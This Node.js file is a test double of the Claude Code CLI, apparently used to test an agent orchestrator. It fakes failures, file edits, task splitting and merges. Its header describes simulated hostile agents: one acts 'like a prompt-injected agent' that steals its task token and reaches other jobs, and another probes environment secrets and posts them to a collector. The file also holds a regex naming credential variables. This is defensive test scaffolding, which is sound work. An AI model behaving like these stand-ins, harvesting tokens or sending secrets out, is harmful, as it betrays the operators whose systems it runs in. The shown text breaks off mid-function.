#!/usr/bin/env node
// Test double of the `claude` CLI (Claude Code) in headless/print mode.
//
// It accepts the flags the real CLI accepts (see docs/claude-cli.md, "Invocation"), rejects unknown ones,
// reads the prompt from its first positional argument or stdin, writes files into its working
// directory and prints a result object shaped like the real one. Tests script it with directives,
// markers written anywhere in the prompt or in env CLAUDE_DOUBLE_DIRECTIVES:
//
//   [[sleep:MS]]      wait MS milliseconds before finishing
//   [[fail]]          fail: is_error, subtype error_during_execution, exit 1
//   [[fail_times:K]]  fail the first K invocations of this prompt, then succeed
//                     (state in $CLAUDE_DOUBLE_STATE_DIR, default <tmpdir>/claude-double-state)
//   [[crash]]         partial stdout line, "panic: simulated crash" on stderr, exit 134
//   [[hang]]          never finish; exit 143 on SIGTERM
//   [[hang_hard]]     never finish; ignore SIGTERM (only SIGKILL ends it)
//   [[logged_out]]    "Not logged in · Please run /login", is_error with subtype success, exit 1
//   [[as_root]]       act as the real CLI run as root: with bypassPermissions (--permission-mode or
//                     --dangerously-skip-permissions) and neither IS_SANDBOX=1 nor CLAUDE_CODE_BUBBLEWRAP
//                     set, print its refusal on stderr and exit 1 without a result (any kind of run)
//   [[cost:X]]        total_cost_usd is X (fails with error_max_budget_usd when above --max-budget-usd)
//   [[turns:N]]       the run takes N turns (fails with error_max_turns when above --max-turns)
//   [[files:N]]       write file_1.txt .. file_N.txt (+ notes/summary.md when N >= 2)
//   [[plan:N]]        outermost arrays in structured_output get N items (clamped by minItems/maxItems)
//   [[choose:VALUE]]  pick VALUE for an enum that contains it (may be repeated)
//   [[garbage]]       print non-JSON text on stdout and exit 0
//   [[steps:N:MS]]    work run: N tool calls (Bash `echo step i`) MS ms apart, printed as stream-json
//                     assistant messages; each one's time is appended to $CLAUDE_DOUBLE_STATE_DIR/steps.jsonl
//
// Repository edits (work runs only; ignored in decide and merge runs). PATH is relative to the cwd
// and is everything up to the first `:` (blanks around it ignored), so it cannot contain `:`; TEXT
// may contain `:` but not `]`, and the two characters `\n` in it stand for a newline. Edits apply
// in order (CLAUDE_DOUBLE_DIRECTIVES first, then the prompt) and all or none: an absolute PATH, a
// PATH with a `..` segment, or an edit of a missing file or line fails the run before anything is
// written (is_error, subtype error_during_execution, exit 1, the reason in `result`). When any edit
// or [[no_files]] is given, the default note output_<hash>.md is not written.
//   [[create:PATH:TEXT]]       create or overwrite PATH (making parent dirs) with TEXT + newline
//   [[append:PATH:TEXT]]       append TEXT + newline to PATH (created when missing)
//   [[edit_line:PATH:N:TEXT]]  replace line N (1-based) of the existing file PATH with TEXT, keeping
//                              the other lines and the trailing newline (or its absence)
//   [[delete:PATH]]            delete the existing file PATH
//   [[create_bytes:PATH:N]]    create or overwrite PATH with N bytes (for size limits)
//   [[no_files]]               write neither the default note nor [[files:N]]'s files
//                              (edits, spawn_result.json and attack files are still written)
//
// Recursion. A decide run is one whose prompt has the line ORCHESTRATOR-DECIDE; the subtask being
// decided is the text after the line `Subtask:` (to the end of the prompt), and in a decide run the
// directives are read from that text (plus CLAUDE_DOUBLE_DIRECTIVES) only. A decide run answers
// {decision, reason, subtasks}, never writes files, takes 1 turn and costs 0.001 unless [[cost:X]];
// it honours sleep, hang, hang_hard, logged_out and cost, and ignores the other failure directives
// (fail, fail_times, crash, garbage, turns), which are about the work run.
//   [[split:N]]       decide run: decision "split" with N subtasks (clamped to the schema's
//                     min/maxItems) titled `Part i`, prompts `Part i of: <subtask, directives removed>`;
//                     without it a decide run answers "do" with no subtasks (whatever plan/choose say);
//                     no effect in a work run
//   [[split_child:K:D1;D2]]  decide run that splits: append ` [[D1]] [[D2]]` to subtask K's prompt
//   [[split_all:D1;D2]]      the same for every subtask (before any split_child additions)
//   [[decide_fail]]   a decide run fails with error_during_execution (exit 1)
//   [[spawn:TEXT;D1]] work run: run `orchestrator spawn --wait "TEXT [[D1]]"` from PATH in the cwd
//                     (120 s timeout), write spawn_result.json, report `spawn exit <code>` and its
//                     stdout in the result text
//   [[attack:JOB]]    work run: act like a prompt-injected agent, calling the API at $API_URL with
//                     $TASK_TOKEN (and $TASK_ID = job/task/attempt) to reach job JOB, the next task
//                     and beyond; writes attack_results.json ([{name, method, path, status}]) and the
//                     raw token to stolen_token.txt, then succeeds normally
//   [[hold:LABEL]]    work run: a hostile-worker stand-in. It probes what it can reach (env secrets,
//                     writes to each path in env HOSTILE_WRITE_TARGETS, TCP to each URL in env
//                     HOSTILE_PROBE_URLS; both comma-separated; reads of HOSTILE_READ_TARGETS and
//                     listings of HOSTILE_LIST_TARGETS; `${NAME}` in a path is the session's $NAME),
//                     POSTs {label, token, task_id, api_url,
//                     env, probes, cwd, pid} to $HOSTILE_COLLECTOR_URL/held, then long-polls
//                     $HOSTILE_COLLECTOR_URL/release/LABEL until released (at most $HOSTILE_HOLD_MS,
//                     default 60000) and finishes like a normal run, honouring the other directives.
//                     Ignored in decide, plan and merge runs; without HOSTILE_COLLECTOR_URL it goes on at
//                     once. LABEL is 1-64 letters, digits, `_`, `-` or `.`; the result text gains a line
//                     `hold: released` (or `hold: gave up waiting`, `hold: collector unreachable (...)`).
//   [[hold_plan:LABEL]]  the same in a plan run (one that asks for structured output and is neither a
//                     decide nor a merge run); put it in the job's request. Ignored in other runs.
//   [[hold_merge:LABEL]] the same in a merge run (a conflict session, holding the merge step's token);
//                     put it in a conflicting worker's prompt, which the merge prompt quotes.
//
// Merge runs. A merge run is one whose prompt has the line ORCHESTRATOR-MERGE (checked before
// ORCHESTRATOR-DECIDE). Its prompt quotes the workers' subtasks, so only [[resolve:MODE]],
// [[merge_fail]], [[cost:X]] and [[sleep:MS]] apply in it (from the prompt and from
// CLAUDE_DOUBLE_DIRECTIVES); every other directive is ignored. The conflicting files are the lines
// `- path` after the line `Conflicting files:`, up to the first blank line. In each listed file that
// exists in the cwd every conflict block
//   <<<<<<< ...  ours lines  [||||||| ...  base lines]  =======  theirs lines  >>>>>>> ...
// is replaced as MODE says (the diff3 base section is always dropped); a block without its closing
// >>>>>>> line is left as it is. The run then succeeds like a work run (cost 0.0125 unless
// [[cost:X]]) but takes 1 turn, writes no other file, and its result text is
// `Merge (resolve MODE): resolved a.txt, b.txt[; unchanged: c.txt][; not found: d.txt]`
// (`resolved no files` when none was changed).
//   [[resolve:MODE]]  both (default): ours lines then theirs lines; ours; theirs; none: leave the
//                     files unchanged (an unknown MODE is ignored)
//   [[merge_fail]]    a merge run fails like [[fail]] and changes no file
//
// Env CLAUDE_DOUBLE_LOG: append one JSON line per invocation ({pid, cwd, argv, prompt, start, end,
// exitCode, phase, envKeys}: envKeys are the names of the environment variables, never their values);
// hang modes also log a line at start with end:null.
// Only node builtins: this script must start fast.

import { spawn } from 'node:child_process';
import { createHash, randomUUID } from 'node:crypto';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';

const VERSION = '2.1.197';
// process start, so that duration_ms covers the whole run like the real CLI's wall clock
const START = Math.min(Date.now(), Math.round(performance.timeOrigin));
const DEFAULT_MODEL = 'claude-sonnet-4-5-20250929';
const DEFAULT_COST = 0.0125;
const DEFAULT_TURNS = 3;
const DEFAULT_ARRAY_ITEMS = 3;
const DECIDE_COST = 0.001;
const DECIDE_MARKER_RE = /^[ \t]*ORCHESTRATOR-DECIDE[ \t]*$/m;
const MERGE_MARKER_RE = /^[ \t]*ORCHESTRATOR-MERGE[ \t]*$/m;
// the only directives a merge run honours (its prompt quotes the workers' subtasks)
const MERGE_DIRECTIVES = ['resolve', 'merge_fail', 'cost', 'sleep', 'hold_merge'];
const RESOLVE_MODES = ['both', 'ours', 'theirs', 'none'];
const SPAWN_TIMEOUT_MS = 120_000;
const SPAWN_CAPTURE_CHARS = 1_000_000;
const ATTACK_TIMEOUT_MS = 5_000;
const HOLD_DEFAULT_MS = 60_000;
// one long poll of the collector; the whole hold is bounded by HOSTILE_HOLD_MS
const HOLD_POLL_MS = 10_000;
const PROBE_TIMEOUT_MS = 2_000;
const HOLD_LABEL_RE = /^[A-Za-z0-9_.-]{1,64}$/;
// what a stolen credential would look like in the session's environment
const SECRET_ENV_RE = /^(ORCHESTRATOR_API_KEY|ANTHROPIC_API_KEY|ANTHROPIC_AUTH_TOKEN|AWS_.*)$/;
const PERMISSION_MODES = ['acceptEdits', 'auto', 'bypassPermissions', 'default', 'dontAsk', 'plan'];
const OUTPUT_FORMATS = ['text', 'json', 'stream-json'];
const UUID_RE = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;

// name -> { key, kind: 'bool' | 'value' | 'variadic' | 'optional', arg }
// 'variadic' options behave like commander's `<values...>`: they swallow every following argument
// up to the next one starting with '-', exactly like the real CLI (so a prompt placed after
// `--allowedTools X` is taken as a tool name there too).
const OPTIONS = new Map();
function def(names, key, kind, arg = '') {
  for (const n of names) OPTIONS.set(n, { key, kind, arg, display: names[names.length - 1] });
}
def(['-p', '--print'], 'print', 'bool');
def(['--output-format'], 'outputFormat', 'value', '<format>');
def(['--verbose'], 'verbose', 'bool');
def(['--json-schema'], 'jsonSchema', 'value', '<schema>');
def(['--max-turns'], 'maxTurns', 'value', '<turns>');
def(['--max-budget-usd'], 'maxBudgetUsd', 'value', '<amount>');
def(['--model'], 'model', 'value', '<model>');
def(['--fallback-model'], 'fallbackModel', 'value', '<model>');
def(['--permission-mode'], 'permissionMode', 'value', '<mode>');
def(['--dangerously-skip-permissions'], 'dangerouslySkipPermissions', 'bool');
def(['--allowedTools', '--allowed-tools'], 'allowedTools', 'variadic', '<tools...>');
def(['--disallowedTools', '--disallowed-tools'], 'disallowedTools', 'variadic', '<tools...>');
def(['--tools'], 'tools', 'variadic', '<tools...>');
def(['--append-system-prompt'], 'appendSystemPrompt', 'value', '<prompt>');
def(['--system-prompt'], 'systemPrompt', 'value', '<prompt>');
def(['--add-dir'], 'addDir', 'variadic', '<directories...>');
def(['--mcp-config'], 'mcpConfig', 'variadic', '<configs...>');
def(['--strict-mcp-config'], 'strictMcpConfig', 'bool');
def(['--no-session-persistence'], 'noSessionPersistence', 'bool');
def(['--session-id'], 'sessionId', 'value', '<uuid>');
def(['-r', '--resume'], 'resume', 'optional', '[value]');
def(['--bare'], 'bare', 'bool');
def(['-v', '--version'], 'version', 'bool');
def(['-h', '--help'], 'help', 'bool');

const HELP = `Usage: claude [options] [command] [prompt]

Claude Code (test double) - starts an interactive session by default, use -p/--print for
non-interactive output

Arguments:
  prompt                                Your prompt

Options:
  -p, --print                           Print response and exit (useful for pipes)
  --output-format <format>              Output format (only works with --print): "text" (default),
                                        "json" (single result), or "stream-json" (realtime streaming)
                                        (choices: "text", "json", "stream-json")
  --verbose                             Override verbose mode setting from config
  --json-schema <schema>                JSON Schema for structured output validation
  --max-budget-usd <amount>             Maximum dollar amount to spend on API calls (only works with --print)
  --model <model>                       Model for the current session
  --fallback-model <model>              Enable automatic fallback to specified model (only works with --print)
  --permission-mode <mode>              Permission mode to use for the session (choices: "acceptEdits",
                                        "auto", "bypassPermissions", "default", "dontAsk", "plan")
  --dangerously-skip-permissions        Bypass all permission checks
  --allowedTools, --allowed-tools <tools...>
                                        Comma or space-separated list of tool names to allow
  --disallowedTools, --disallowed-tools <tools...>
                                        Comma or space-separated list of tool names to deny
  --tools <tools...>                    Specify the list of available tools from the built-in set
  --append-system-prompt <prompt>       Append a system prompt to the default system prompt
  --system-prompt <prompt>              System prompt to use for the session
  --add-dir <directories...>            Additional directories to allow tool access to
  --mcp-config <configs...>             Load MCP servers from JSON files or strings (space-separated)
  --strict-mcp-config                   Only use MCP servers from --mcp-config
  --no-session-persistence              Disable session persistence (only works with --print)
  --session-id <uuid>                   Use a specific session ID for the conversation (must be a valid UUID)
  -r, --resume [value]                  Resume a conversation by session ID
  --bare                                Minimal mode: skip hooks, plugins and CLAUDE.md discovery
  -v, --version                         Output the version number
  -h, --help                            Display help for command
`;

class UsageError extends Error {}

// ---------------------------------------------------------------------------------------------
// Invocation log and exit handling

const argv = process.argv.slice(2);
let loggedPrompt = null;

function logLine(phase, exitCode) {
  const file = process.env.CLAUDE_DOUBLE_LOG;
  if (!file) return;
  const end = phase === 'start' ? null : Date.now();
  const entry = {
    pid: process.pid,
    cwd: process.cwd(),
    argv,
    prompt: loggedPrompt,
    start: START,
    end,
    exitCode,
    phase,
    // names only, never values: tests check which variables a session could see (e.g. no git token)
    envKeys: Object.keys(process.env).sort(),
  };
  try {
    fs.appendFileSync(file, `${JSON.stringify(entry)}\n`);
  } catch {
    // the log is a test aid; never let it change the outcome
  }
}

let finished = false;
function finish(code) {
  if (finished) return;
  finished = true;
  logLine('end', code);
  process.exitCode = code;
}

function onSigterm() {
  if (!finished) {
    finished = true;
    logLine('end', 143);
  }
  process.exit(143);
}
process.on('SIGTERM', onSigterm);
process.on('SIGINT', () => {
  if (!finished) {
    finished = true;
    logLine('end', 130);
  }
  process.exit(130);
});

// ---------------------------------------------------------------------------------------------
// Argument parsing (commander-like)

function parseArgs(args) {
  const opts = {};
  const positionals = [];
  let variadic = null;
  for (let i = 0; i < args.length; i++) {
    const a = args[i];
    if (a === '--') {
      positionals.push(...args.slice(i + 1));
      break;
    }
    if (a.startsWith('-') && a.length > 1) {
      variadic = null;
      let name = a;
      let inline;
      const eq = a.indexOf('=');
      if (a.startsWith('--') && eq > 0) {
        name = a.slice(0, eq);
        inline = a.slice(eq + 1);
      }
      const spec = OPTIONS.get(name);
      if (!spec) throw new UsageError(`error: unknown option '${name}'`);
      if (spec.kind === 'bool') {
        if (inline !== undefined) throw new UsageError(`error: unknown option '${a}'`);
        opts[spec.key] = true;
      } else if (spec.kind === 'optional') {
        if (inline !== undefined) opts[spec.key] = inline;
        else if (i + 1 < args.length && !args[i + 1].startsWith('-')) opts[spec.key] = args[++i];
        else opts[spec.key] = true;
      } else {
        let value = inline;
        if (value === undefined) {
          // like commander, a required option-argument is taken even when it starts with '-'
          if (i + 1 >= args.length) {
            throw new UsageError(`error: option '${spec.display} ${spec.arg}' argument missing`);
          }
          value = args[++i];
        }
        if (spec.kind === 'variadic') {
          opts[spec.key] = [...(opts[spec.key] ?? []), value];
          variadic = spec;
        } else {
          opts[spec.key] = value;
        }
      }
      continue;
    }
    if (variadic) {
      opts[variadic.key].push(a);
      continue;
    }
    positionals.push(a);
  }
  if (positionals.length > 1) {
    throw new UsageError(`error: too many arguments. Expected 1 argument but got ${positionals.length}.`);
  }
  return { opts, prompt: positionals[0] };
}

function validate(opts) {
  if (opts.outputFormat !== undefined && !OUTPUT_FORMATS.includes(opts.outputFormat)) {
    throw new UsageError(
      `error: option '--output-format <format>' argument '${opts.outputFormat}' is invalid. Allowed choices are ${OUTPUT_FORMATS.join(', ')}.`,
    );
  }
  if (opts.permissionMode !== undefined && !PERMISSION_MODES.includes(opts.permissionMode)) {
    throw new UsageError(
      `error: option '--permission-mode <mode>' argument '${opts.permissionMode}' is invalid. Allowed choices are ${PERMISSION_MODES.join(', ')}.`,
    );
  }
  if (opts.maxTurns !== undefined) {
    const n = Number(opts.maxTurns);
    if (!/^\s*\d+\s*$/.test(opts.maxTurns) || !Number.isInteger(n) || n < 1) {
      throw new UsageError(`Error: --max-turns must be a positive integer, got '${opts.maxTurns}'`);
    }
    opts.maxTurns = n;
  }
  if (opts.maxBudgetUsd !== undefined) {
    const x = Number(opts.maxBudgetUsd);
    if (opts.maxBudgetUsd.trim() === '' || !Number.isFinite(x) || x <= 0) {
      throw new UsageError('Error: --max-budget-usd must be a positive number greater than 0');
    }
    opts.maxBudgetUsd = x;
  }
  if (opts.sessionId !== undefined && !UUID_RE.test(opts.sessionId)) {
    throw new UsageError('Error: Invalid session ID. Must be a valid UUID.');
  }
  if (opts.jsonSchema !== undefined) {
    try {
      opts.schema = JSON.parse(opts.jsonSchema);
    } catch (e) {
      throw new UsageError(`Error: Invalid JSON provided to --json-schema: ${e.message}`);
    }
    if (opts.schema === null || typeof opts.schema !== 'object' || Array.isArray(opts.schema)) {
      throw new UsageError('Error: --json-schema must be a JSON Schema object');
    }
  }
  for (const cfg of opts.mcpConfig ?? []) {
    const text = cfg.trim();
    try {
      JSON.parse(text.startsWith('{') ? text : fs.readFileSync(path.resolve(text), 'utf8'));
    } catch (e) {
      throw new UsageError(`Error: Invalid MCP configuration: ${cfg}: ${e.message}`);
    }
  }
  if (opts.outputFormat === 'stream-json' && opts.print && !opts.verbose) {
    throw new UsageError('Error: When using --print, --output-format=stream-json requires --verbose');
  }
}

// ---------------------------------------------------------------------------------------------
// Directives

const DIRECTIVE_SRC =
  '\\[\\[(sleep|fail|fail_times|crash|hang|hang_hard|logged_out|as_root|cost|turns|files|plan|choose|garbage|split|split_child|split_all|decide_fail|spawn|attack|hold|hold_plan|hold_merge|create|create_bytes|append|edit_line|delete|no_files|resolve|merge_fail|steps)(?::([^\\]]*))?\\]\\]';
const DIRECTIVE_RE = new RegExp(DIRECTIVE_SRC, 'gi');
// a run of markers with the blanks around them
const DIRECTIVE_RUN_RE = new RegExp(`[ \\t]*(?:${DIRECTIVE_SRC}[ \\t]*)+`, 'gi');

function parseDirectives(text, into) {
  for (const m of text.matchAll(DIRECTIVE_RE)) {
    const name = m[1].toLowerCase();
    const value = m[2];
    switch (name) {
      case 'choose':
        if (value !== undefined) into.choose.push(value);
        break;
      case 'steps': {
        const m2 = /^\s*(\d+)\s*:\s*(\d+)\s*$/.exec(value ?? '');
        if (m2) into.steps = { n: Number.parseInt(m2[1], 10), ms: Number.parseInt(m2[2], 10) };
        break;
      }
      case 'split_child': {
        const m2 = /^\s*(\d+)\s*:(.*)$/s.exec(value ?? '');
        const k = m2 ? Number.parseInt(m2[1], 10) : Number.NaN;
        if (Number.isInteger(k) && k >= 1) into.splitChild.push({ k, directives: directiveList(m2[2]) });
        break;
      }
      case 'split_all':
        into.splitAll.push(...directiveList(value ?? ''));
        break;
      case 'spawn':
      case 'attack':
        if (value !== undefined) into[name] = value;
        break;
      case 'hold':
      case 'hold_plan':
      case 'hold_merge':
        if (value !== undefined && HOLD_LABEL_RE.test(value.trim())) into[name] = value.trim();
        break;
      case 'create':
      case 'create_bytes':
      case 'append':
      case 'edit_line':
      case 'delete':
        into.edits.push({ op: name, value: value ?? '' });
        break;
      case 'resolve': {
        const mode = (value ?? '').trim().toLowerCase();
        if (RESOLVE_MODES.includes(mode)) into.resolve = mode;
        break;
      }
      case 'sleep':
      case 'split':
      case 'fail_times':
      case 'turns':
      case 'files':
      case 'plan': {
        const n = Number.parseInt(value ?? '', 10);
        if (Number.isFinite(n) && n >= 0) into[name] = n;
        break;
      }
      case 'cost': {
        const x = Number.parseFloat(value ?? '');
        if (Number.isFinite(x) && x >= 0) into.cost = x;
        break;
      }
      default:
        into[name] = true;
    }
  }
  return into;
}

// Root may skip permissions only inside a sandbox the CLI is told about.
function refusesRoot(opts) {
  const bypass = opts.dangerouslySkipPermissions || opts.permissionMode === 'bypassPermissions';
  const sandboxed = process.env.IS_SANDBOX === '1' || Boolean(process.env.CLAUDE_CODE_BUBBLEWRAP);
  return bypass && !sandboxed;
}

function newDirectives() {
  return { choose: [], splitChild: [], splitAll: [], edits: [] };
}

// A merge run keeps only the directives meant for it.
function mergeDirectives(d) {
  const out = newDirectives();
  for (const key of MERGE_DIRECTIVES) if (d[key] !== undefined) out[key] = d[key];
  return out;
}

// `a;b:1; c` -> ['[[a]]', '[[b:1]]', '[[c]]']
function directiveList(text) {
  return text
    .split(';')
    .map((s) => s.trim())
    .filter(Boolean)
    .map((s) => `[[${s}]]`);
}

// Remove the markers and the blanks around them, keeping one space between words they separated.
function stripDirectives(text) {
  return text
    .replace(DIRECTIVE_RUN_RE, (...args) => {
      const m = args[0];
      const offset = args[args.length - 2];
      const str = args[args.length - 1];
      const before = str[offset - 1];
      const after = str[offset + m.length];
      return before === undefined || before === '\n' || after === undefined || after === '\n' ? '' : ' ';
    })
    .trim();
}

// ---------------------------------------------------------------------------------------------
// Structured output from a JSON Schema

function resolveRef(root, ref) {
  if (typeof ref !== 'string' || !ref.startsWith('#')) return {};
  let node = root;
  for (const part of ref.slice(1).split('/').filter(Boolean)) {
    const key = decodeURIComponent(part).replace(/~1/g, '/').replace(/~0/g, '~');
    node = node?.[key];
  }
  return node && typeof node === 'object' ? node : {};
}

function schemaType(schema) {
  let t = schema.type;
  if (Array.isArray(t)) t = t.find((x) => x !== 'null') ?? t[0];
  if (t) return t;
  if (schema.properties || schema.required) return 'object';
  if (schema.items) return 'array';
  return 'string';
}

function fitLength(s, schema) {
  let out = s;
  const min = schema.minLength;
  const max = schema.maxLength;
  if (Number.isInteger(min) && out.length < min) out = out.padEnd(min, '.');
  if (Number.isInteger(max) && out.length > max) out = out.slice(0, max);
  return out;
}

function titleCase(s) {
  return s.charAt(0).toUpperCase() + s.slice(1);
}

function stringFor(name, schema, ctx) {
  const i = ctx.index;
  switch (schema.format) {
    case 'date-time':
      return new Date(START).toISOString();
    case 'date':
      return new Date(START).toISOString().slice(0, 10);
    case 'email':
      return `part${i}@example.com`;
    case 'uri':
    case 'url':
      return `https://example.com/part/${i}`;
    case 'uuid':
      return randomUUID();
    default:
  }
  const key = (name ?? '').toLowerCase();
  if (key === 'title' || key === 'name') return `Part ${i}`;
  if (key === 'prompt' || key === 'task' || key === 'instructions') return `Part ${i} of: ${ctx.cleanPrompt}`;
  if (key === 'description' || key === 'summary') return `Part ${i} of the work for: ${ctx.firstLine}`;
  if (key === 'id') return `part-${i}`;
  if (name) return `${titleCase(name.replace(/[_-]+/g, ' '))} ${i}`;
  return `Item ${i}`;
}

function numberFor(schema, integer, ctx) {
  const step = integer ? 1 : 0.5;
  let v = ctx.index;
  if (typeof schema.minimum === 'number' && v < schema.minimum) v = schema.minimum;
  if (typeof schema.exclusiveMinimum === 'number' && v <= schema.exclusiveMinimum) {
    v = schema.exclusiveMinimum + step;
  }
  if (typeof schema.maximum === 'number' && v > schema.maximum) v = schema.maximum;
  if (typeof schema.exclusiveMaximum === 'number' && v >= schema.exclusiveMaximum) {
    const lo = typeof schema.exclusiveMinimum === 'number' ? schema.exclusiveMinimum : undefined;
    v = lo !== undefined && !integer ? (lo + schema.exclusiveMaximum) / 2 : schema.exclusiveMaximum - step;
  }
  if (integer) {
    v = Math.ceil(v);
    if (typeof schema.multipleOf === 'number' && schema.multipleOf > 0) {
      v = Math.ceil(v / schema.multipleOf) * schema.multipleOf;
    }
  }
  return v;
}

function pickEnum(values, ctx) {
  for (const want of ctx.choose) {
    const hit = values.find((v) => v === want || String(v) === want);
    if (hit !== undefined) return hit;
  }
  return values[0];
}

function generate(schema, name, ctx, depth = 0) {
  if (depth > 20 || schema === true || schema == null || typeof schema !== 'object') {
    return stringFor(name, {}, ctx);
  }
  let s = schema;
  if (s.$ref) s = { ...resolveRef(ctx.root, s.$ref), ...s, $ref: undefined };
  if (Array.isArray(s.allOf) && s.allOf.length) {
    const merged = { ...s, allOf: undefined };
    for (const part of s.allOf) {
      const p = part?.$ref ? resolveRef(ctx.root, part.$ref) : part;
      Object.assign(merged, p, {
        properties: { ...merged.properties, ...p?.properties },
        required: [...(merged.required ?? []), ...(p?.required ?? [])],
      });
    }
    s = merged;
  }
  if ('const' in s) return s.const;
  if (Array.isArray(s.enum) && s.enum.length) return pickEnum(s.enum, ctx);
  const alt = s.anyOf ?? s.oneOf;
  if (Array.isArray(alt) && alt.length) {
    const choice = alt.find((a) => a && a.type !== 'null') ?? alt[0];
    return generate({ ...s, anyOf: undefined, oneOf: undefined, ...choice }, name, ctx, depth + 1);
  }
  switch (schemaType(s)) {
    case 'object': {
      const out = {};
      const props = s.properties ?? {};
      for (const [key, sub] of Object.entries(props)) out[key] = generate(sub, key, ctx, depth + 1);
      for (const key of s.required ?? []) {
        if (!(key in out)) out[key] = stringFor(key, {}, ctx);
      }
      return out;
    }
    case 'array': {
      const outermost = !ctx.inArray;
      let count = outermost && ctx.plan !== undefined ? ctx.plan : DEFAULT_ARRAY_ITEMS;
      if (Number.isInteger(s.minItems)) count = Math.max(count, s.minItems);
      if (Number.isInteger(s.maxItems)) count = Math.min(count, s.maxItems);
      const items = [];
      const tuple = Array.isArray(s.prefixItems) ? s.prefixItems : Array.isArray(s.items) ? s.items : null;
      const itemSchema = tuple ? (s.additionalItems ?? {}) : (s.items ?? {});
      for (let k = 0; k < count; k++) {
        const sub = tuple && k < tuple.length ? tuple[k] : itemSchema;
        const childName = name && /s$/i.test(name) ? name.replace(/s$/i, '') : name;
        items.push(generate(sub, childName, { ...ctx, index: k + 1, inArray: true }, depth + 1));
      }
      return items;
    }
    case 'integer':
      return numberFor(s, true, ctx);
    case 'number':
      return numberFor(s, false, ctx);
    case 'boolean':
      // true only when the test asked for a plan with at least one item, so that a schema such as
      // {decompose: boolean, subtasks: [...]} does not decompose forever by default
      return ctx.plan !== undefined && ctx.plan > 0;
    case 'null':
      return null;
    default:
      return fitLength(stringFor(name, s, ctx), s);
  }
}

// ---------------------------------------------------------------------------------------------
// Helpers

// [[steps:N:MS]]: N tool calls, MS apart, each as the assistant message stream-json shows; the time each
// was printed goes to $CLAUDE_DOUBLE_STATE_DIR/steps.jsonl, so a test can measure how soon it is seen.
async function emitSteps({ n, ms }, format, sessionId, model) {
  const base = process.env.CLAUDE_DOUBLE_STATE_DIR || path.join(os.tmpdir(), 'claude-double-state');
  try {
    fs.mkdirSync(base, { recursive: true });
  } catch {
    // see below
  }
  for (let i = 1; i <= n; i++) {
    if (format === 'stream-json') {
      const message = {
        type: 'assistant',
        message: {
          id: `msg_step_${sessionId.slice(0, 8)}_${i}`,
          type: 'message',
          role: 'assistant',
          model,
          content: [
            { type: 'tool_use', id: `toolu_${i}`, name: 'Bash', input: { command: `echo step ${i}` } },
          ],
          stop_reason: 'tool_use',
          stop_sequence: null,
          usage: { input_tokens: 100 * i, output_tokens: 10 * i },
        },
        parent_tool_use_id: null,
        session_id: sessionId,
        uuid: randomUUID(),
      };
      process.stdout.write(`${JSON.stringify(message)}\n`);
    }
    try {
      fs.appendFileSync(
        path.join(base, 'steps.jsonl'),
        `${JSON.stringify({ session: sessionId, step: i, at: Date.now() })}\n`,
      );
    } catch {
      // a test aid: a jailed run cannot write there, and must not fail for it
    }
    await sleep(ms);
  }
}

function sleep(ms) {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

function shortHash(text, n = 8) {
  return createHash('sha256').update(text).digest('hex').slice(0, n);
}

async function readStdin() {
  if (process.stdin.isTTY) return '';
  const chunks = [];
  for await (const chunk of process.stdin) chunks.push(chunk);
  return Buffer.concat(chunks).toString('utf8');
}

// Which invocation of this prompt is this? Exclusive creation of attempt_<k> files makes the answer
// unique even when several processes run at once.
function nextAttempt(prompt) {
  const base = process.env.CLAUDE_DOUBLE_STATE_DIR || path.join(os.tmpdir(), 'claude-double-state');
  const dir = path.join(base, shortHash(prompt, 24));
  fs.mkdirSync(dir, { recursive: true });
  for (let k = 1; k < 100_000; k++) {
    try {
      fs.writeFileSync(path.join(dir, `attempt_${k}`), `${process.pid} ${Date.now()}\n`, { flag: 'wx' });
      return k;
    } catch (e) {
      if (e.code !== 'EEXIST') throw e;
    }
  }
  return Number.POSITIVE_INFINITY;
}

function writeWorkFiles(d, ctx) {
  const cwd = process.cwd();
  if (d.no_files) return;
  if (d.files !== undefined) {
    for (let k = 1; k <= d.files; k++) {
      fs.writeFileSync(path.join(cwd, `file_${k}.txt`), `File ${k} of ${d.files} for: ${ctx.firstLine}\n`);
    }
    if (d.files >= 2) {
      fs.mkdirSync(path.join(cwd, 'notes'), { recursive: true });
      fs.writeFileSync(
        path.join(cwd, 'notes', 'summary.md'),
        `# Summary\n\nWrote ${d.files} files for:\n\n> ${ctx.cleanPrompt.replace(/\n/g, '\n> ')}\n`,
      );
    }
    return;
  }
  if (d.edits.length) return;
  fs.writeFileSync(
    path.join(cwd, `output_${shortHash(ctx.cleanPrompt)}.md`),
    `# Note\n\nThis note was written for the prompt:\n\n> ${ctx.cleanPrompt.replace(/\n/g, '\n> ')}\n`,
  );
}

// ---------------------------------------------------------------------------------------------
// Repository edits and merge runs

class EditRefused extends Error {}

// `PATH` of an edit directive -> a normalized path inside the cwd, or throws EditRefused.
function safeRelPath(p, label) {
  if (p === '') throw new EditRefused(`${label}: empty path`);
  if (path.isAbsolute(p) || p.startsWith('\\')) {
    throw new EditRefused(`${label}: absolute paths are not allowed`);
  }
  if (p.split(/[\\/]+/).includes('..')) throw new EditRefused(`${label}: '..' segments are not allowed`);
  const norm = path.normalize(p);
  if (norm === '.' || /[\\/]$/.test(p)) throw new EditRefused(`${label}: not a file path`);
  return norm;
}

function expandNewlines(text) {
  return text.replace(/\\n/g, '\n');
}

function splitFirst(text, sep) {
  const i = text.indexOf(sep);
  return i < 0 ? [text, undefined] : [text.slice(0, i), text.slice(i + sep.length)];
}

// Work out every edit in memory first, so that a refused edit leaves the cwd untouched.
// Returns a Map: relative path -> new content, or null to delete.
function planEdits(edits, cwd) {
  const state = new Map();
  const read = (rel, label) => {
    if (state.has(rel)) return state.get(rel);
    let st;
    try {
      st = fs.statSync(path.join(cwd, rel));
    } catch {
      return null;
    }
    if (!st.isFile()) throw new EditRefused(`${label}: not a regular file`);
    return fs.readFileSync(path.join(cwd, rel), 'utf8');
  };
  for (const { op, value } of edits) {
    const label = `Refused [[${op}:${value}]]`;
    const [rawPath, rest] = splitFirst(value, ':');
    const rel = safeRelPath(rawPath.trim(), label);
    const old = read(rel, label);
    if (op === 'create') {
      state.set(rel, `${expandNewlines(rest ?? '')}\n`);
    } else if (op === 'create_bytes') {
      const n = Number(rest);
      if (!Number.isInteger(n) || n < 0 || n > 1e9) throw new EditRefused(`${label}: N must be a byte count`);
      state.set(rel, 'x'.repeat(n));
    } else if (op === 'append') {
